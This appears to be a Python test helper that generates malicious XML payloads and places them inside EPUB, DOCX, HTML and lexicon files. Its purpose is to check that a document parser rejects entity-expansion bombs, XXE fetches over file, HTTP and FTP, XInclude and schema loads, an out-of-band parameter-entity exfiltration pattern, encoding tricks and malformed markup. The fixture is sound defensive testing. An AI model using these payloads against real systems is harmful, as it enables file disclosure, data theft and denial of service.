"""Markup that is made to attack whoever reads it, and the places of documents where somebody could put it.

Each attack is a whole XML document around a word; `{root}` and `{inside}` stand for the element that a place wants
and what it has to hold. The classes are those of defusedxml, of OWASP's list for XXE, and of libxml2's own limits.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.unit.documents.docx_builder import NAMES, docx, para
from tests.unit.documents.epub_builder import CONTAINER, METADATA, XHTML, epub, ncx, opf, packed, page

CANARY = "canary-4711"
"""Stands in the files and answers that an attack would bring in."""


@dataclass(frozen=True, slots=True)
class Attack:
    """prolog: what stands in front of the root.    inside: what stands in it.    declares: whether it has entities.

    attributes: of the root.    codec: how the text becomes bytes.
    """

    name: str
    prolog: str = ""
    inside: str = ""
    attributes: str = ""
    codec: str = "utf-8"
    declares: bool = False


def attacks(file: Path, url: str) -> Iterator[Attack]:
    """All of them. file, url: what holds the canary, and must not be asked for."""
    yield from _bombs()
    yield from _external(file.as_uri(), url)
    yield from _disguised(file.as_uri())
    yield from _shapes()


def _declared(name: str, subset: str, inside: str = "&a;", codec: str = "utf-8") -> Attack:
    return Attack(name, f"<!DOCTYPE r [{subset}]>", inside, codec=codec, declares=True)


def _bombs() -> Iterator[Attack]:
    laughs = "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    yield _declared("billion laughs", f'<!ENTITY a "lol">{laughs}', "&j;")
    yield _declared("quadratic blow-up", f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 10_000)
    yield _declared("an entity of itself", '<!ENTITY a "&a;">')
    yield _declared("entities of each other", '<!ENTITY a "&b;"><!ENTITY b "&a;">')
    yield _declared(
        "parameter laughs", '<!ENTITY % a "lol"><!ENTITY % b "%a;%a;"><!ENTITY % c "%b;%b;">%c;', ""
    )
    yield _declared("laughs in an attribute", f'<!ENTITY a "lol">{laughs}<!ATTLIST r x CDATA "&j;">', "")
    yield _declared("an entity of markup", '<!ENTITY a "<b><b><b>&#60;</b></b></b>">')
    yield _declared("an entity over an HTML name", '<!ENTITY nbsp "owned">', "&nbsp;")
    yield _declared("an entity never used", '<!ENTITY a "x">', "")
    yield _declared("declared thousandfold", "".join(f'<!ENTITY e{n} "x">' for n in range(20_000)), "&e1;")


def _external(file: str, url: str) -> Iterator[Attack]:
    for kind, target in (
        ("file", file),
        ("http", url),
        ("ftp", url.replace("http:", "ftp:")),
        ("relative", "a.txt"),
    ):
        yield _declared(f"an external entity by {kind}", f'<!ENTITY a SYSTEM "{target}">')
        yield _declared(f"a public entity by {kind}", f'<!ENTITY a PUBLIC "x" "{target}">')
        yield _declared(f"a parameter entity by {kind}", f'<!ENTITY % a SYSTEM "{target}">%a;', "")
        yield Attack(f"an external DTD by {kind}", f'<!DOCTYPE r SYSTEM "{target}">')
        yield Attack(f"a public DTD by {kind}", f'<!DOCTYPE r PUBLIC "-//x//y" "{target}">')
        yield Attack(f"a style sheet by {kind}", f'<?xml-stylesheet type="text/xsl" href="{target}"?>')
        yield Attack(f"a DTD with a notation by {kind}", f'<!DOCTYPE r [<!NOTATION n SYSTEM "{target}">]>')
        yield Attack(
            f"XInclude by {kind}",
            inside=f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>',
        )
        yield Attack(
            f"a schema by {kind}",
            attributes=f'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="x {target}"',
        )
        yield Attack(f"a model by {kind}", f'<?xml-model href="{target}"?>')
        yield Attack(f"a base by {kind}", attributes=f'xml:base="{target}"')
        yield Attack(
            f"pictures by {kind}",
            inside=f'<img xmlns="http://www.w3.org/1999/xhtml" src="{target}"/><iframe src="{target}"/>',
        )
        yield Attack(
            f"a drawing by {kind}",
            inside=f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<use xlink:href="{target}#a"/><image href="{target}"/><style>@import "{target}";</style></svg>',
        )
    yield _declared("an unparsed entity", f'<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "{file}" NDATA n>', "")
    yield _declared(
        "sent away by a parameter",
        f'<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{url}?%f;\'>">%e;%s;',
        "",
    )


def _disguised(file: str) -> Iterator[Attack]:
    entity = f'<!ENTITY a SYSTEM "{file}">'
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "utf-7", "cp037", "utf-32-be"):
        # Without a byte-order mark, or in encodings nobody reads, it may be taken for anything but what it says.
        yield Attack(f"declared in {codec}", f"<!DOCTYPE r [{entity}]>", "&a;", codec=codec)
    for said in (
        "utf-7",
        "utf-16",
        "ucs-4",
        "ebcdic-cp-us",
        "iso-2022-jp",
        "hz",
        "rot13",
        "idna",
        "unicode_escape",
    ):
        yield Attack(
            f"said to be {said}", f'<?xml version="1.0" encoding="{said}"?><!DOCTYPE r [{entity}]>', "&a;"
        )
    yield _declared("behind a comment", f"<!-- ]> -->{entity}")
    yield _declared("behind an instruction", f"<?x ]> ?>{entity}")
    yield Attack("behind quotes", f'<!DOCTYPE r PUBLIC "[" "]" [{entity}]>', "&a;", declares=True)
    yield Attack("in capitals", f"<!doctype r [{entity.lower()}]>", "&a;", declares=True)
    yield Attack(
        "after many comments", f"{'<!-- x -->' * 2_000}<!DOCTYPE r [{entity}]>", "&a;", declares=True
    )
    yield Attack("after many spaces", f"{' ' * 200_000}<!DOCTYPE r [{entity}]>", "&a;", declares=True)
    yield Attack("in a second DOCTYPE", f"<!DOCTYPE r><!DOCTYPE r [{entity}]>", "&a;")
    yield Attack("in a DOCTYPE within", inside=f"<!DOCTYPE r [{entity}]>&a;")
    yield Attack("in a section", inside=f"<![CDATA[<!DOCTYPE r [{entity}]>]]>&a;")
    yield Attack("without an end", f"<!DOCTYPE r [{entity}", "&a;")
    yield Attack("in version 1.1", f'<?xml version="1.1"?><!DOCTYPE r [{entity}]>', "&a;", declares=True)
    yield Attack("in version 9", f'<?xml version="9.0"?><!DOCTYPE r [{entity}]>', "&a;", declares=True)
    yield Attack("with a NUL", f"<!DOCTYPE r [<!ENT\0ITY a SYSTEM '{file}'>]>", "&a;")


def _shapes() -> Iterator[Attack]:
    yield Attack("deep nesting", inside="<b>" * 100_000)
    yield Attack("deep nesting that ends", inside="<b>" * 5_000 + "</b>" * 5_000)
    yield Attack("a long attribute", attributes=f'x="{"y" * 11_000_000}"')
    yield Attack("many attributes", attributes=" ".join(f'x{n}="y"' for n in range(50_000)))
    yield Attack("an attribute again and again", attributes='x="y" ' * 50_000)
    yield Attack("many namespaces", attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000)))
    yield Attack("nested namespaces", inside="".join(f'<b xmlns="urn:{n}">' for n in range(5_000)))
    yield Attack("a long name", inside=f"<{'n' * 1_000_000}/>")
    yield Attack("a long text", inside="x" * 11_000_000)
    yield Attack("many comments", inside="<!---->" * 200_000)
    yield Attack("a comment without an end", inside="<!--" * 100_000)
    yield Attack("instructions without an end", inside="<?a" * 100_000)
    yield Attack("sections without an end", inside="<![CDATA[" * 100_000)
    yield Attack("loose signs", inside="<" * 200_000)
    yield Attack("ends without a beginning", inside="</b>" * 200_000)
    yield Attack("many references", inside="&#x41;" * 200_000)
    yield Attack(
        "impossible references",
        inside="&#0;&#xD800;&#xDFFF;&#xFFFF;&#x110000;&#99999999999999999999;" * 1_000,
    )
    yield Attack("loose ampersands", inside="&" * 200_000)
    yield Attack("unclosed tags", inside="<a b='" * 50_000)
    yield Attack("controls", inside="".join(map(chr, range(32))) * 1_000)
    yield Attack("instructions before", "<?x y?>" * 100_000)
    yield Attack("comments before", "<!-- x -->" * 100_000)
    yield Attack("a DOCTYPE of brackets", f"<!DOCTYPE r {'[' * 100_000}")
    yield Attack("a DOCTYPE of quotes", f"<!DOCTYPE r {chr(34) * 99_999}")
    yield Attack("many DOCTYPEs", "<!DOCTYPE r>" * 50_000)
    yield Attack("many DOCTYPEs with a comment", "<!DOCTYPE r <!--" * 20_000)


@dataclass(frozen=True, slots=True)
class Place:
    """Where in a document an attack can stand. pack: the part's bytes to the document's."""

    name: str
    filename: str
    root: str
    inside: str
    pack: Callable[[bytes], bytes]

    def hold(self, attack: Attack) -> bytes:
        """The document with the attack in it."""
        name = self.root.split()[0]
        text = f"{attack.prolog}<{self.root} {attack.attributes}>{self.inside}{attack.inside}</{name}>"
        return self.pack(text.encode(attack.codec, "replace"))


def places() -> list[Place]:
    """Every part of a document that is read as markup."""
    word = f"w:document {NAMES}"
    body = f"<w:body>{para('One.')}</w:body>"
    return [
        Place("EPUB page", "a.epub", f"html {XHTML}", "<body><p>One.</p></body>", _as_page),
        Place(
            "EPUB container",
            "a.epub",
            *_opened(CONTAINER),
            lambda part: _as_part("META-INF/container.xml", part),
        ),
        Place(
            "EPUB package",
            "a.epub",
            *_opened(opf(["a.xhtml"])),
            lambda part: _as_part("OEBPS/book.opf", part),
        ),
        Place(
            "EPUB encryption",
            "a.epub",
            "encryption",
            "",
            lambda part: _as_part("META-INF/encryption.xml", part),
        ),
        Place("EPUB navigation", "a.epub", f"html {XHTML}", '<nav epub:type="toc"/>', _as_navigation),
        Place("EPUB 2 contents", "a.epub", *_opened(ncx([("I", "a.xhtml")])), _as_ncx),
        Place("DOCX text", "a.docx", word, body, lambda part: docx("", parts={"word/document.xml": part})),
        Place(
            "DOCX styles", "a.docx", f"w:styles {NAMES}", "", lambda part: _as_word("word/styles.xml", part)
        ),
        Place(
            "DOCX numbering",
            "a.docx",
            f"w:numbering {NAMES}",
            "",
            lambda part: _as_word("word/numbering.xml", part),
        ),
        Place(
            "DOCX footnotes",
            "a.docx",
            f"w:footnotes {NAMES}",
            "",
            lambda part: _as_word("word/footnotes.xml", part),
        ),
        Place("DOCX relations", "a.docx", "Relationships", "", lambda part: _as_word("_rels/.rels", part)),
        Place(
            "DOCX properties",
            "a.docx",
            "coreProperties",
            "",
            lambda part: _as_word("docProps/core.xml", part),
        ),
        Place("HTML page", "a.html", "html", "<body><p>One.</p></body>", lambda part: part),
        Place("lexicon", "a.pls", 'lexicon alphabet="ipa"', _LEXEME, lambda part: part),
    ]


_LEXEME = "<lexeme><grapheme>a</grapheme><alias>b</alias></lexeme>"


def _opened(markup: str) -> tuple[str, str]:
    """The root's tag and what it holds, without what stands in front."""
    start = markup[markup.rindex("?>") + 2 :] if "?>" in markup else markup[markup.index(">") + 1 :]
    tag, _, rest = start.partition(">")
    return tag.lstrip("<"), rest.rpartition("</")[0]


def _as_page(part: bytes) -> bytes:
    return packed(
        {"META-INF/container.xml": CONTAINER, "OEBPS/book.opf": opf(["a.xhtml"]), "OEBPS/a.xhtml": part}
    )


def _as_part(name: str, part: bytes) -> bytes:
    files: dict[str, str | bytes] = {
        "META-INF/container.xml": CONTAINER,
        "OEBPS/book.opf": opf(["a.xhtml"]),
        "OEBPS/a.xhtml": page("<p>One.</p>"),
    }
    return packed({**files, name: part})


def _as_navigation(part: bytes) -> bytes:
    return epub([("a.xhtml", "<p>One.</p>")], metadata=METADATA, files={"OEBPS/nav.xhtml": part})


def _as_ncx(part: bytes) -> bytes:
    items = '<item id="ncx" href="t.ncx" media-type="application/x-dtbncx+xml"/>'
    package = opf(["a.xhtml"], items=items, spine='toc="ncx"')
    return packed(
        {
            "META-INF/container.xml": CONTAINER,
            "OEBPS/book.opf": package,
            "OEBPS/a.xhtml": page("<p>One.</p>"),
            "OEBPS/t.ncx": part,
        }
    )


def _as_word(name: str, part: bytes) -> bytes:
    return docx(para("One."), parts={name: part})
